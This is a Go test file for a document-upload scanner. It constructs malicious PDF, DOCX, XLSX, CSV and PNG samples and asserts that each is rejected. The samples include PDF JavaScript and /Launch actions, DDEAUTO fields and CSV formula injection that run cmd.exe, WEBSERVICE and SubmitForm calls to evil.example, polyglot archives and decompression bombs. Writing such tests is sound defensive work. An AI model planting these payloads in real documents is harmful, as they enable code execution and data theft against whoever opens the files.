package document_test

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image/png"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"jiheng/internal/document"
	"jiheng/internal/fault"
)

// pdf makes a PDF of objects; a stream of objects hides those of hidden.
func pdf(objects string, hidden ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n" + objects + "\n")
	for _, h := range hidden {
		var packed bytes.Buffer
		z := zlib.NewWriter(&packed)
		_, _ = z.Write([]byte(h))
		_ = z.Close()
		fmt.Fprintf(&b, "9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\r\n%s\r\nendstream endobj\n", packed.Len(), packed.String())
	}
	fmt.Fprintf(&b, "xref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", b.Len())
	return b.Bytes()
}

func instruction(texts ...string) part {
	runs := `<w:fldChar w:fldCharType="begin"/>`
	for _, t := range texts {
		runs += "<w:r><w:instrText>" + t + "</w:instrText></w:r>"
	}
	return part{"word/header1.xml", `<w:hdr xmlns:w="x">` + runs + `<w:fldChar w:fldCharType="separate"/></w:hdr>`}
}

func formula(text string) part {
	return part{"xl/worksheets/sheet9.xml", "<worksheet><row><c><f>" + text + "</f></c></row></worksheet>"}
}

// huge is the head of a picture that claims to be enormous.
func huge(width, height uint32) []byte {
	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32([]byte("IHDR"), width), height)
	header = append(header, 8, 6, 0, 0, 0)
	out := append([]byte("\x89PNG\r\n\x1a\n"), 0, 0, 0, 13)
	return binary.BigEndian.AppendUint32(append(out, header...), crc32.ChecksumIEEE(header))
}

func gzipped(t *testing.T) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, err := z.Write([]byte("packed once more"))
	require.NoError(t, err)
	require.NoError(t, z.Close())
	return b.String()
}

// more is a workbook with a part added.
func more(t *testing.T, added part) []byte {
	t.Helper()
	content := xlsx(t)
	r, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	require.NoError(t, err)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range r.File {
		require.NoError(t, w.Copy(f))
	}
	f, err := w.Create(added.name)
	require.NoError(t, err)
	_, err = f.Write([]byte(added.content))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return b.Bytes()
}

// Files as they are sent to do harm, each made here.
func TestSniff_refuses_what_does_harm(t *testing.T) {
	t.Parallel()
	type attack struct {
		name    string
		content []byte
		reason  string
		found   string
	}
	attacks := map[string]attack{
		"script in a PDF":                {"a.pdf", pdf("1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"), document.ReasonActive, "JavaScript"},
		"script spelt with numbers":      {"a.pdf", pdf("1 0 obj << /OpenAction << /S /J#61vaScrip#74 /JS (x) >> >> endobj"), document.ReasonActive, "JavaScript"},
		"script in packed objects":       {"a.pdf", pdf("1 0 obj << >> endobj", "2 0 << /Names << /JavaScript 3 0 R >> >>"), document.ReasonActive, "JavaScript"},
		"program started by a PDF":       {"a.pdf", pdf("1 0 obj << /S /Launch /F (cmd.exe) >> endobj"), document.ReasonActive, "Launch"},
		"form that sends itself":         {"a.pdf", pdf("1 0 obj << /S /SubmitForm /F (http://evil.example) >> endobj"), document.ReasonActive, "SubmitForm"},
		"film in a PDF":                  {"a.pdf", pdf("1 0 obj << /Subtype /RichMedia >> endobj"), document.ReasonActive, "RichMedia"},
		"objects packed in another way":  {"a.pdf", pdf("1 0 obj << /Type /ObjStm /Filter [/ASCII85Decode /FlateDecode] >>\nstream\nabc\nendstream endobj"), document.ReasonActive, "ObjStm"},
		"encrypted PDF":                  {"a.pdf", pdf("trailer << /Encrypt 5 0 R >>"), document.ReasonEncrypted, "Encrypt"},
		"objects that swell":             {"a.pdf", pdf("", strings.Repeat(" ", 65<<20)), document.ReasonArchive, "too_large_unpacked"},
		"objects that are broken":        {"a.pdf", pdf("1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nabcdefgh\nendstream endobj"), document.ReasonDamaged, ""},
		"PDF that was cut off":           {"a.pdf", pdf("1 0 obj << >> endobj")[:60], document.ReasonDamaged, ""},
		"PDF without its last line":      {"a.pdf", bytes.TrimSuffix(pdf(""), []byte("%%EOF\n")), document.ReasonDamaged, ""},
		"PDF whose table is elsewhere":   {"a.pdf", bytes.Replace(pdf("1 0 obj << >> endobj"), []byte("1 0 obj"), []byte("% more\n1 0 obj"), 1), document.ReasonDamaged, ""},
		"PDF whose table is nowhere":     {"a.pdf", []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\nstartxref\n99999\n%%EOF\n"), document.ReasonDamaged, ""},
		"PDF behind something else":      {"a.pdf", append([]byte("GIF89a "), pdf("")...), document.ReasonMismatch, "application/pdf"},
		"PDF that is an archive too":     {"a.pdf", append(pdf(""), packed(t, part{"evil.exe", "MZ"})...), document.ReasonTwoFaced, "application/zip"},
		"picture that is an archive too": {"a.png", append(picture(t, png.Encode), packed(t, part{"evil.exe", "MZ"})...), document.ReasonTwoFaced, "application/zip"},
		"document with a tail":           {"a.docx", append(docx(t), "MZ and a program"...), document.ReasonTwoFaced, "application/zip"},
		"picture wider than a wall":      {"a.png", huge(20_001, 1), document.ReasonPicture, "dimensions"},
		"picture of ten thousand metres": {"a.png", huge(19_000, 19_000), document.ReasonPicture, "dimensions"},
		"picture without an end":         {"a.png", []byte("\x89PNG\r\n\x1a\n\x00\x00"), document.ReasonDamaged, ""},
		"object of another program":      {"a.docx", docx(t, part{"word/embeddings/oleObject1.bin", "x"}), document.ReasonObject, "word/embeddings/oleObject1.bin"},
		"program within a document":      {"a.docx", docx(t, part{"word/embeddings/a.exe", "MZ"}), document.ReasonObject, "word/embeddings/a.exe"},
		"macros one floor down":          {"a.docx", docx(t, part{"word/embeddings/b.xlsx", string(more(t, part{"xl/vbaProject.bin", "x"}))}), document.ReasonMacro, "xl/vbaProject.bin"},
		"three floors":                   {"a.docx", docx(t, part{"word/embeddings/b.docx", string(docx(t, part{"word/embeddings/c.docx", string(docx(t))}))}), document.ReasonObject, "word/embeddings/c.docx"},
		"archive within a document":      {"a.docx", docx(t, part{"word/media/image1.png", string(packed(t, part{"a", "x"}))}), document.ReasonArchive, "word/media/image1.png"},
		"packed once more":               {"a.docx", docx(t, part{"customXml/item1.xml", gzipped(t)}), document.ReasonArchive, "customXml/item1.xml"},
		"page read in when it is opened": {"a.docx", docx(t, part{"word/_rels/document.xml.rels", links(office+"aFChunk", "evil.html", "")}), document.ReasonObject, "aFChunk"},
		"field that starts a program":    {"a.docx", docx(t, instruction(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`)), document.ReasonExternalLink, "DDEAUTO"},
		"field cut into runs":            {"a.docx", docx(t, instruction("D", "D", "E", ` c:\\cmd.exe`)), document.ReasonExternalLink, "DDE"},
		"field spelt with entities":      {"a.docx", docx(t, instruction("&#x44;DEAUTO x")), document.ReasonExternalLink, "DDEAUTO"},
		"field spelt with numbers":       {"a.docx", docx(t, instruction("QUOTE 68 68 69 65")), document.ReasonExternalLink, "QUOTE"},
		"simple field":                   {"a.docx", docx(t, part{"word/footer1.xml", `<w:ftr xmlns:w="x"><w:fldSimple w:instr="DDEAUTO x"/></w:ftr>`}), document.ReasonExternalLink, "DDEAUTO"},
		"text from elsewhere":            {"a.docx", docx(t, instruction(`INCLUDETEXT "c:\\secret.txt"`)), document.ReasonExternalLink, "INCLUDETEXT"},
		"picture field from elsewhere":   {"a.docx", docx(t, instruction(`INCLUDEPICTURE "http://evil.example/1.png"`)), document.ReasonExternalLink, "INCLUDEPICTURE"},
		"formula that starts a program":  {"a.xlsx", more(t, formula(`cmd|'/c calc'!A0`)), document.ReasonExternalLink, "DDE"},
		"formula that fetches":           {"a.xlsx", more(t, formula(`IF(1,WEBSERVICE("http://evil.example"))`)), document.ReasonExternalLink, "WEBSERVICE"},
		"name that fetches":              {"a.xlsx", more(t, part{"xl/names.xml", `<x><definedName name="a">RTD("evil",,"x")</definedName></x>`}), document.ReasonExternalLink, "RTD"},
		"data from elsewhere":            {"a.xlsx", more(t, part{"xl/connections.xml", "<connections/>"}), document.ReasonExternalLink, "xl/connections.xml"},
		"query of elsewhere":             {"a.xlsx", more(t, part{"xl/queryTables/queryTable1.xml", "<x/>"}), document.ReasonExternalLink, "xl/queryTables/queryTable1.xml"},
		"page within a document":         {"a.docx", docx(t, part{"word/webextensions/webextension1.xml", "<x/>"}), document.ReasonExternalLink, "word/webextensions/webextension1.xml"},
		"table that starts a program":    {"a.csv", []byte("项目,金额\n甲,=cmd|'/c calc'!A0\n"), document.ReasonExternalLink, "DDE"},
		"overlapping parts":              {"a.docx", overlapping(t), document.ReasonArchive, "overlapping_parts"},
	}
	for about, a := range attacks {
		t.Run(about, func(t *testing.T) {
			t.Parallel()
			_, err := sniff(a.name, a.content)
			requireReason(t, err, fault.Invalid, a.reason)
			require.Equal(t, a.found, fault.As(err).Params["found"])
		})
	}
}

// overlapping is an archive whose entries share one packed part, by which a
// small file unpacks to any size.
func overlapping(t *testing.T) []byte {
	t.Helper()
	content := docx(t, part{"word/media/1", strings.Repeat("0", 1000)}, part{"word/media/2", strings.Repeat("0", 1000)})
	at := bytes.LastIndex(content, []byte("word/media/1")) - 46
	other := bytes.LastIndex(content, []byte("word/media/2")) - 46
	copy(content[other+42:other+46], content[at+42:at+46]) // where the second begins
	return content
}

func TestSniff_takes_what_only_looks_like_harm(t *testing.T) {
	t.Parallel()
	for about, f := range map[string]struct {
		name    string
		content []byte
	}{
		"PDF with an attachment":       {"a.pdf", pdf("1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >> endobj")},
		"PDF that speaks of scripts":   {"a.pdf", pdf("1 0 obj (how to write JavaScript) endobj", "2 0 << /Title (JavaScript) >>")},
		"PDF with a link":              {"a.pdf", pdf("1 0 obj << /S /URI /URI (https://www.example.gov.cn) >> endobj")},
		"PDF with a packed page":       {"a.pdf", pdf("1 0 obj << /Filter /LZWDecode >>\nstream\n\x80\x0b\x60\nendstream endobj")},
		"negative numbers in a table":  {"a.csv", []byte("项目,变动\n甲,-5\n乙,=SUM(B1:B2)\n")},
		"page number in a footer":      {"a.docx", docx(t, instruction(" PAGE ", `\* MERGEFORMAT`))},
		"picture of the document":      {"a.docx", docx(t, instruction(`INCLUDEPICTURE "media\\image1.png" \* MERGEFORMAT`))},
		"formula with a stroke":        {"a.xlsx", more(t, formula(`IF(A1="甲|乙",1,2)`))},
		"packed picture of Windows":    {"a.docx", docx(t, part{"word/media/image1.emz", gzipped(t)})},
		"sheet full of the same":       {"a.xlsx", more(t, formula(strings.Repeat("0", 4<<20)))},
		"name with a number and point": {"附件1.5 验收.pdf", pdf("")},
	} {
		t.Run(about, func(t *testing.T) {
			t.Parallel()
			kind, err := sniff(f.name, f.content)
			require.NoError(t, err)
			require.Equal(t, about == "PDF with an attachment", kind.Embedded)
		})
	}
}

func TestReadText_gives_text_and_never_markup(t *testing.T) {
	t.Parallel()
	blobs, _ := openBlobs(t)
	document1 := `<w:document xmlns:w="x"><w:body><w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>一、概况</w:t></w:r></w:p>` +
		`<w:p><w:r><w:t>支出&lt;b&gt;</w:t></w:r><w:r><w:t>正常</w:t></w:r></w:p>` +
		`<w:tbl><w:tr><w:tc><w:p><w:r><w:t>项目</w:t></w:r></w:p></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl></w:body></w:document>`
	word := packed(t, part{"[Content_Types].xml", wordTypes}, part{"_rels/.rels", links(office+"officeDocument", "word/document.xml", "")}, part{"word/document.xml", document1})
	text, err := blobs.ReadText(put(t, blobs, string(word)).SHA256, "报告.docx")
	require.NoError(t, err)
	require.Equal(t, document.PaperText{Blocks: []document.TextBlock{
		{Kind: document.TextHeading, Text: "一、概况"},
		{Kind: document.TextParagraph, Text: "支出<b>正常"},
		{Kind: document.TextTable, Rows: [][]string{{"项目", ""}}},
	}}, text)

	text, err = blobs.ReadText(put(t, blobs, "\xcf\xee\xc4\xbf,1\n\"a,b\",=1+1\n").SHA256, "台账.csv")
	require.NoError(t, err)
	require.Equal(t, [][]string{{"项目", "1"}, {"a,b", "=1+1"}}, text.Blocks[0].Rows)

	text, err = blobs.ReadText(put(t, blobs, strings.Repeat("\n", 5000)).SHA256, "a.txt")
	require.NoError(t, err)
	require.True(t, text.Cut)
	require.Len(t, text.Blocks, 2000)

	var rows strings.Builder
	for i := range 500 {
		rows.WriteString(`<row r="` + strconv.Itoa(i+1) + `"><c r="A` + strconv.Itoa(i+1) + `"><v>7</v></c></row>`)
	}
	book := replaced(t, "xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+rows.String()+`</sheetData></worksheet>`)
	text, err = blobs.ReadText(put(t, blobs, string(book)).SHA256, "a.xlsx")
	require.NoError(t, err)
	require.True(t, text.Cut)
	require.Equal(t, "Sheet1", text.Blocks[0].Text)
	require.Len(t, text.Blocks[1].Rows, 400)

	_, err = blobs.ReadText(put(t, blobs, string(pdf(""))).SHA256, "a.pdf")
	requireReason(t, err, fault.Conflict, document.ReasonNoPreview)
}

// replaced is a workbook with one part exchanged.
func replaced(t *testing.T, name, content string) []byte {
	t.Helper()
	whole := xlsx(t)
	r, err := zip.NewReader(bytes.NewReader(whole), int64(len(whole)))
	require.NoError(t, err)
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range r.File {
		if f.Name != name {
			require.NoError(t, w.Copy(f))
		}
	}
	f, err := w.Create(name)
	require.NoError(t, err)
	_, err = f.Write([]byte(content))
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return b.Bytes()
}

func FuzzPDF(f *testing.F) {
	f.Add(pdf("1 0 obj << /S /JavaScript >> endobj"))
	f.Add(pdf("1 0 obj << >> endobj", "2 0 << /Names << /JavaScript 3 0 R >> >>"))
	f.Add(pdf("1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nabc"))
	f.Fuzz(func(t *testing.T, content []byte) {
		_, err := sniff("a.pdf", append([]byte("%PDF-1.7\n"), content...))
		if err != nil {
			require.Equal(t, fault.Invalid, fault.CodeOf(err), "%v", err)
			require.Contains(t, document.Reasons(), fault.ReasonOf(err))
		}
	})
}
